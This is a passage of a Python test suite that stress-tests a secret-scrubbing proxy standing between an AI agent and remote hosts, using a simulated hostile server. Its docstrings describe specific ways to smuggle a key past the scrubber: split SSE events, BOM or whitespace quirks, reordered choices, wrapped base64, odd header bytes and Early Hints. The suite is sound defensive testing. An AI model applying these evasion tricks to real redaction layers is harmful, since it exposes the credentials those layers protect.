        await w.send(ws_frame(0x1, json.dumps({"type": "delta", "delta": f"begins {start}"}).encode()), pause=0.02)
        await w.send(ws_frame(0x2, b"\x00\x01binary"), pause=0.02)
        await w.send(ws_frame(0x1, json.dumps({"type": "delta", "delta": " and ends"}).encode()), pause=0.02)
        await w.send(ws_frame(0x8, b"\x03\xe8"), pause=0.05)
        w.keep = False

    head, frames = ws_agent_reads(rt, "/rt3/ws-held-delta")
    assert head.startswith(b"HTTP/1.1 101")
    got = ws_messages(frames)
    assert [op for op, _ in got] == [0x1, 0x2, 0x1, 0x8]
    assert json.loads(got[0][1])["delta"] == f"begins {start}" and got[1][1] == b"\x00\x01binary"
    assert json.loads(got[2][1])["delta"] == " and ends" and got[3][1][:2] == b"\x03\xe8"


def test_rt3_websocket_text_message_over_the_bound_closes_the_socket(rt: ProxyProcess, hostile: HostileServer) -> None:
    """A text message from a bound host is held whole to be read as its client reads it; one over
    1 MiB (in fragments) is refused (1008) before any of it reaches the agent. A binary message of
    that size still streams through."""

    @hostile.on("/rt3/ws-big-binary")
    async def _(req: Request, w: Wire) -> None:
        await w.send(ws_handshake(req))
        for frame in ws_fragments(0x2, b"b" * 24 * 65536, 65536):
            await w.send(frame)
        await w.send(ws_frame(0x8, b"\x03\xe8"), pause=0.05)
        w.keep = False

    @hostile.on("/rt3/ws-big-text")
    async def _(req: Request, w: Wire) -> None:
        await w.send(ws_handshake(req))
        for frame in ws_fragments(0x1, b"t" * 24 * 65536, 65536):  # 1.5 MiB
            await w.send(frame)
        await w.send(ws_frame(0x8, b"\x03\xe8"), pause=0.05)
        w.keep = False

    _, frames = ws_agent_reads(rt, "/rt3/ws-big-binary")
    got = ws_messages(frames)
    assert [(op, len(p)) for op, p in got] == [(0x2, 24 * 65536), (0x8, 2)]
    _, frames = ws_agent_reads(rt, "/rt3/ws-big-text")
    got = ws_messages(frames)
    assert [op for op, _ in got] == [0x8] and got[0][1][:2] == (1008).to_bytes(2, "big")


def test_rt3_sse_split_after_a_byte_order_mark(rt: ProxyProcess, hostile: HostileServer) -> None:
    """A ``text/event-stream`` that begins with a UTF-8 byte order mark (the SSE parser must
    ignore one, per the WHATWG spec). The scrubber reads the first line as ``\\ufeffdata: ...``, not
    a data field, so the first event's text never enters the per-path stream; the key split over
    that event and the next is never seen whole. The client drops the BOM and stitches the deltas:
    the key. Invariant 1 (SSE, a value split across events)."""

    @hostile.on("/rt3/sse-bom")
    async def _(req: Request, w: Wire) -> None:
        t = req.token
        await w.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nTransfer-Encoding: chunked\r\n\r\n")
        for n, text in enumerate((f"Your key: {t[:20]}", t[20:])):
            event = b"data: " + json.dumps({"choices": [{"delta": {"content": text}}]}).encode() + b"\n\n"
            await w.send(_chunks((b"\xef\xbb\xbf" if n == 0 else b"") + event)[:-5], pause=0.02)
        await w.send(_chunks(b"data: [DONE]\n\n"))

    raw = fetch(rt, "/rt3/sse-bom")
    assert raw.startswith(b"HTTP/1.1 200")
    stream = body_of(raw).decode("utf-8").removeprefix("\ufeff")
    text = deltas(stream)
    assert HOST.real not in text


@pytest.mark.parametrize("lead", [b"  ", b"\t"], ids=["two-spaces", "tab"])
def test_rt3_sse_json_payload_with_leading_whitespace(rt: ProxyProcess, hostile: HostileServer, lead: bytes) -> None:
    """``data:  {...}`` (two spaces) or ``data:\\t{...}``: the SSE parser drops one space, the JSON
    parser skips the rest. The scrubber reads a payload as JSON only when its first byte is ``{``
    or ``[``, so it stitches the events' raw JSON texts, where syntax sits between the halves of the
    key; the client json-loads each event and stitches the deltas: the key. Invariant 1 (SSE)."""
    path = f"/rt3/sse-lead-{lead[-1]}"

    @hostile.on(path)
    async def _(req: Request, w: Wire) -> None:
        t = req.token
        await w.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nTransfer-Encoding: chunked\r\n\r\n")
        for text in ("Your key: ", t[:20], t[20:]):
            event = b"data:" + lead + json.dumps({"choices": [{"delta": {"content": text}}]}).encode() + b"\n\n"
            await w.send(_chunks(event)[:-5], pause=0.02)
        await w.send(_chunks(b"data: [DONE]\n\n"))

    raw = fetch(rt, path)
    assert raw.startswith(b"HTTP/1.1 200")
    text = "".join(
        json.loads(ln[5:].removeprefix(" "))["choices"][0]["delta"]["content"]
        for ln in body_of(raw).decode().splitlines()
        if ln.startswith("data:") and ln[5:].strip().startswith("{")
    )
    assert HOST.real not in text


def test_rt3_sse_choice_moves_to_another_array_position(rt: ProxyProcess, hostile: HostileServer) -> None:
    """OpenAI streaming with ``n=2``: choice 0 first alone in ``choices``, then second in an event
    that carries choice 1 before it. The scrubber stitches by path (``.choices[0]...`` and
    ``.choices[1]...``) and by a tagged path that names the ``index`` but also the position
    (``.choices[0]<0>`` vs ``.choices[1]<0>``): no stream holds both halves of the key, and the
    position-0 stream reads ``<half>Hi``. The SDK accumulates by ``choice.index``: the key.
    Invariant 1 (SSE, split across events)."""

    @hostile.on("/rt3/sse-moved-choice")
    async def _(req: Request, w: Wire) -> None:
        t = req.token
        events = [
            {"choices": [{"index": 0, "delta": {"content": f"Your key: {t[:20]}"}}]},
            {"choices": [{"index": 1, "delta": {"content": "Hi"}}, {"index": 0, "delta": {"content": t[20:]}}]},
        ]
        await w.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nTransfer-Encoding: chunked\r\n\r\n")
        for doc in events:
            await w.send(_chunks(b"data: " + json.dumps(doc).encode() + b"\n\n")[:-5], pause=0.02)
        await w.send(_chunks(b"data: [DONE]\n\n"))

    raw = fetch(rt, "/rt3/sse-moved-choice")
    assert raw.startswith(b"HTTP/1.1 200")
    stitched: dict[int, str] = {}
    for ln in body_of(raw).decode().splitlines():
        if ln.startswith("data: {"):
            for choice in json.loads(ln[6:])["choices"]:
                stitched[choice["index"]] = stitched.get(choice["index"], "") + choice["delta"]["content"]
    assert HOST.real not in stitched.get(0, "")


def test_rt3_sse_responses_api_interleaved_outputs(rt: ProxyProcess, hostile: HostileServer) -> None:
    """OpenAI's Responses API streams ``response.output_text.delta`` events told apart by
    ``item_id`` / ``output_index`` / ``content_index`` (no ``index`` field). Two outputs
    interleave, the key split between two deltas of output 0 with a delta of output 1 between
    them: the ``.delta`` stream reads ``<half>Hello<half>``. The client accumulates per output:
    the key. Invariant 1 (SSE, split across events)."""

    @hostile.on("/rt3/sse-responses")
    async def _(req: Request, w: Wire) -> None:
        t = req.token
        await w.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nTransfer-Encoding: chunked\r\n\r\n")
        for out, text in ((0, f"Your key: {t[:20]}"), (1, "Hello"), (0, t[20:]), (1, " world")):
            doc = {"type": "response.output_text.delta", "item_id": f"msg_{out}", "output_index": out,
                   "content_index": 0, "delta": text}  # fmt: skip
            event = b"event: response.output_text.delta\ndata: " + json.dumps(doc).encode() + b"\n\n"
            await w.send(_chunks(event)[:-5], pause=0.02)
        await w.send(_chunks(b'event: response.completed\ndata: {"type": "response.completed"}\n\n'))

    raw = fetch(rt, "/rt3/sse-responses")
    assert raw.startswith(b"HTTP/1.1 200")
    outputs: dict[int, str] = {}
    for ln in body_of(raw).decode().splitlines():
        if ln.startswith("data: {"):
            doc = json.loads(ln[6:])
            if doc["type"] == "response.output_text.delta":
                outputs[doc["output_index"]] = outputs.get(doc["output_index"], "") + doc["delta"]
    assert HOST.real not in outputs.get(0, "")


# == attempts that held ==========================================================================


def test_rt3_value_cut_at_every_offset_in_mixed_case_with_many_secrets(
    crowded: ProxyProcess, hostile: HostileServer
) -> None:
    """One streamed body holding a copy of the key per offset, each in scrambled case and cut by a
    chunk boundary at that offset, from a host bound to 7 or 43 secrets (probes of 64 patterns, or
    the sharded automaton). Every copy must be replaced, or the stream refused."""

    @hostile.on("/rt3/cut-mixed")
    async def _(req: Request, w: Wire) -> None:
        t = scramble(req.token).encode()
        await w.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n")
        for k in range(1, len(t)):
            await w.send(_chunks(b" key=" + t[:k])[:-5])
            await w.send(_chunks(t[k:] + b";")[:-5], pause=0.002)
        await w.send(b"0\r\n\r\n")

    raw = fetch(crowded, "/rt3/cut-mixed", timeout=20)
    assert raw.startswith(b"HTTP/1.1 200")
    assert HOST.real.lower().encode() not in body_of(raw).lower()


@pytest.mark.parametrize("width", [40, 64, 76])
@pytest.mark.parametrize("eol", ["\n", "\r\n"], ids=["lf", "crlf"])
def test_rt3_wrapped_base64_at_exact_widths_with_many_secrets(
    crowded: ProxyProcess, hostile: HostileServer, width: int, eol: str
) -> None:
    """Base64 wrapped at exactly 40, 64 or 76 characters, LF or CRLF, the key's encoding crossing a
    line end at an offset chosen per width, streamed in small chunks: refused (it cannot be
    replaced in place), never forwarded whole."""
    path = f"/rt3/wrapped-{width}-{len(eol)}"

    @hostile.on(path)
    async def _(req: Request, w: Wire) -> None:
        lead = b"x" * ((width - 12) * 3 // 4)  # the key's base64 starts 12 characters before a line end
        blob = base64.b64encode(lead + req.token.encode() + b" end")
        wrapped = eol.encode().join(blob[i : i + width] for i in range(0, len(blob), width))
        await w.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n")
        for i in range(0, len(wrapped), 7):
            await w.send(_chunks(wrapped[i : i + 7])[:-5])
        await w.send(b"0\r\n\r\n")

    raw = fetch(crowded, path)
    assert is_cut_or_refused(raw), "the wrapped key was forwarded"
    blob = re.sub(rb"\s", b"", body_of(raw))
    assert HOST.real.encode() not in base64.b64decode(blob[: len(blob) // 4 * 4])


def test_rt3_large_base64_body_streamed_with_many_secrets(crowded: ProxyProcess, hostile: HostileServer) -> None:
    """64 KiB of base64 (input that reads as encoded text: the find-loop engine when the finder
    chose it) with the key's base64 in its middle, streamed in 1000-byte chunks: replaced."""

    @hostile.on("/rt3/big-b64")
    async def _(req: Request, w: Wire) -> None:
        filler = base64.b64encode(secrets.token_bytes(24 * 1024))
        blob = filler + base64.b64encode(b"::" + req.token.encode() + b"::") + filler
        await w.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n")
        for i in range(0, len(blob), 1000):
            await w.send(_chunks(blob[i : i + 1000])[:-5])
        await w.send(b"0\r\n\r\n")

    raw = fetch(crowded, "/rt3/big-b64", timeout=20)
    assert raw.startswith(b"HTTP/1.1 200")
    body = body_of(raw)
    assert body and HOST.real.encode() not in base64.b64decode(body[: len(body) // 4 * 4], validate=False)
    assert base64.b64encode(HOST.real.encode())[4:-4] not in body


@pytest.mark.parametrize("odd", [b"\x01", b"\t", b"\xff"], ids=["soh", "tab", "obs-text"])
def test_rt3_header_value_with_odd_bytes_around_a_value(
    crowded: ProxyProcess, hostile: HostileServer, odd: bytes
) -> None:
    """A response header whose value wraps the key in the byte the head search joins fields with
    (0x01), a TAB, or obs-text: replaced (or the response refused), in each proxy."""
    path = f"/rt3/odd-header-{odd[0]}"

    @hostile.on(path)
    async def _(req: Request, w: Wire) -> None:
        value = odd + req.token.encode() + odd + b"%" + odd
        await w.send(b"HTTP/1.1 200 OK\r\nX-Echo: a" + value + b"z\r\nContent-Length: 2\r\n\r\nok")

    raw = fetch(crowded, path)
    assert raw.startswith(b"HTTP/1.1")
    assert HOST.real.encode() not in raw


def test_rt3_filler_value_echoed_by_a_host_bound_to_many_secrets(crowded: ProxyProcess, hostile: HostileServer) -> None:
    """The host holds the value of a secret the agent never used here (it was sent on an earlier
    request) and returns it, lowercased and base64url-encoded, among other secrets' placeholders:
    replaced or refused."""
    value: str = crowded.fill_values[-1]  # type: ignore[attr-defined]

    @hostile.on("/rt3/filler")
    async def _(req: Request, w: Wire) -> None:
        body = f"a={value.lower()} b={base64.urlsafe_b64encode(value.encode()).decode()}".encode()
        await w.send(_respond("Content-Type: text/plain\r\n", body))

    raw = fetch(crowded, "/rt3/filler")
    if refused(raw):
        return
    assert raw.startswith(b"HTTP/1.1 200")
    body = body_of(raw).decode("latin-1")
    assert value.lower() not in body
    assert base64.urlsafe_b64encode(value.encode()).decode()[4:-4] not in body


@pytest.mark.parametrize("kind", list(LONG_ESCAPES))
def test_rt3_long_escapes_in_a_whole_body_are_refused(rt: ProxyProcess, hostile: HostileServer, kind: str) -> None:
    """The control for the streamed breaks above: the same doubly escaped key, in a Content-Length
    response body (checked whole) and in a Content-Length request body the agent sends elsewhere:
    refused both ways."""
    encode, decode = LONG_ESCAPES[kind]
    path = f"/rt3/long-whole-{kind}"

    @hostile.on(path)
    async def _(req: Request, w: Wire) -> None:
        await w.send(_respond("Content-Type: text/plain\r\n", b"key=" + encode(req.token) + b";"))

    raw = fetch(rt, path)
    assert is_cut_or_refused(raw) or HOST.real not in decode(body_of(raw)[4:-1])
    out_path = f"/rt3/long-whole-out-{kind}"
    body = encode(HOST.real)
    s = tls_to(rt, HOSTILE2_NAME)
    s.sendall(
        f"POST {out_path} HTTP/1.1\r\nHost: {HOSTILE2_NAME}\r\nContent-Length: {len(body)}\r\n"
        "Connection: close\r\n\r\n".encode()
        + body
    )
    answer = recv_all(s)
    assert b"secret_value_outbound" in answer.partition(b"\r\n\r\n")[0].lower()
    assert not [r for r in hostile.requests if r.path == out_path]


def test_rt3_interim_heads_are_scrubbed_with_many_secrets(crowded: ProxyProcess, hostile: HostileServer) -> None:
    """Two 103 Early Hints heads before the final response, the key in a Link field of the first
    (percent-encoded) and the name of a field of the second (mixed case), from a host bound to 7 or
    43 secrets: replaced, or the response refused."""

    @hostile.on("/rt3/early-hints")
    async def _(req: Request, w: Wire) -> None:
        t = req.token
        pct = "".join(f"%{b:02X}" for b in t.encode())
        await w.send(f"HTTP/1.1 103 Early Hints\r\nLink: </s.css?k={pct}>; rel=preload\r\n\r\n".encode())
        await w.send(f"HTTP/1.1 103 Early Hints\r\nX-{scramble(t)}: 1\r\n\r\n".encode())
        await w.send(_respond("", b"ok"))

    raw = fetch(crowded, "/rt3/early-hints")
    assert raw.startswith(b"HTTP/1.1 103") or refused(raw)
    text = urllib.parse.unquote(raw.decode("latin-1")).lower()
    assert HOST.real.lower() not in text


def test_rt3_sse_event_nested_too_deep_for_the_json_parser_ends_the_stream(
    rt: ProxyProcess, hostile: HostileServer
) -> None:
    """An SSE event whose data is JSON nested 50,000 deep: ``json.loads`` raises RecursionError
    (not the ValueError the scrubber expects), then the key split over the next two events. Fail
    closed: the stream is cut there, nothing after it reaches the agent, and the proxy serves the
    next request."""

    @hostile.on("/rt3/sse-deep")
    async def _(req: Request, w: Wire) -> None:
        t = req.token
        await w.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nTransfer-Encoding: chunked\r\n\r\n")
        await w.send(_chunks(b"data: " + b"[" * 50000 + b"]" * 50000 + b"\n\n")[:-5], pause=0.05)
        for text in ("Your key: ", t[:20], t[20:]):
            event = b"data: " + json.dumps({"choices": [{"delta": {"content": text}}]}).encode() + b"\n\n"
            await w.send(_chunks(event)[:-5], pause=0.02)
        await w.send(_chunks(b"data: [DONE]\n\n"))

    raw = fetch(rt, "/rt3/sse-deep")
    assert is_cut_or_refused(raw)
    assert HOST.real[:20].encode() not in raw and HOST.real[20:].encode() not in raw
    assert fetch(rt, "/rt3/after-deep").startswith(b"HTTP/1.1 200")
